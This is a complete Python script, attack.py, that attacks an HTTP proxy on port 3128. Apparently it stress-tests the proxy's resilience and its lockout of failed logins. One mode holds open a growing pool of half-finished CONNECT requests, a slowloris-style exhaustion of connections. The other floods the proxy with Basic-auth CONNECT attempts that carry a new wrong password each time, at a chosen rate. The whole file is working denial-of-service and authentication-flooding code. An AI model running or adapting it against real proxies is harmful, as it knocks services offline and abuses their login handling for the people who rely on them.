"""What an attacker does to a proxy at 3128, for some seconds.

Usage: attack.py half-open PROXY-ADDRESS SECONDS COUNT    requests that never end; a tenth of them is begun anew every second
       attack.py guess PROXY-ADDRESS SECONDS RATE USER    CONNECTs with a new wrong password, RATE a second
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import socket
import sys
import threading
import time
from collections import deque

HEAD = b"CONNECT hub.azure-devices.net:443 HTTP/1.1\r\nHost: hub.azure-devices.net:443\r\n"


def begin(proxy: str) -> socket.socket:
    """Begin a request; whoever keeps the socket keeps it open."""
    stream = socket.create_connection((proxy, 3128), timeout=5)
    stream.sendall(HEAD)
    return stream


def ask(proxy: str, request: bytes) -> None:
    """Send one request and wait for the answer."""
    with contextlib.suppress(OSError), socket.create_connection((proxy, 3128), timeout=5) as stream:
        stream.sendall(request)
        stream.recv(4096)


def main() -> None:
    """Attack."""
    kind, proxy, seconds, *more = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    kept = deque((begin(proxy) for _number in range(int(more[0]))), int(more[0])) if kind == "half-open" else None
    for number in itertools.count():
        if time.monotonic() > end:
            break
        if kept is None:
            wrong = base64.b64encode(f"{more[1]}:wrong {number}".encode())
            request = HEAD + b"Proxy-Authorization: Basic " + wrong + b"\r\n\r\n"
            threading.Thread(target=ask, args=(proxy, request), daemon=True).start()
            time.sleep(1 / float(more[0]))
        else:
            kept.extend(begin(proxy) for _number in range(len(kept) // 50))
            time.sleep(0.2)
    print(number if kept is None else len(kept))


main()
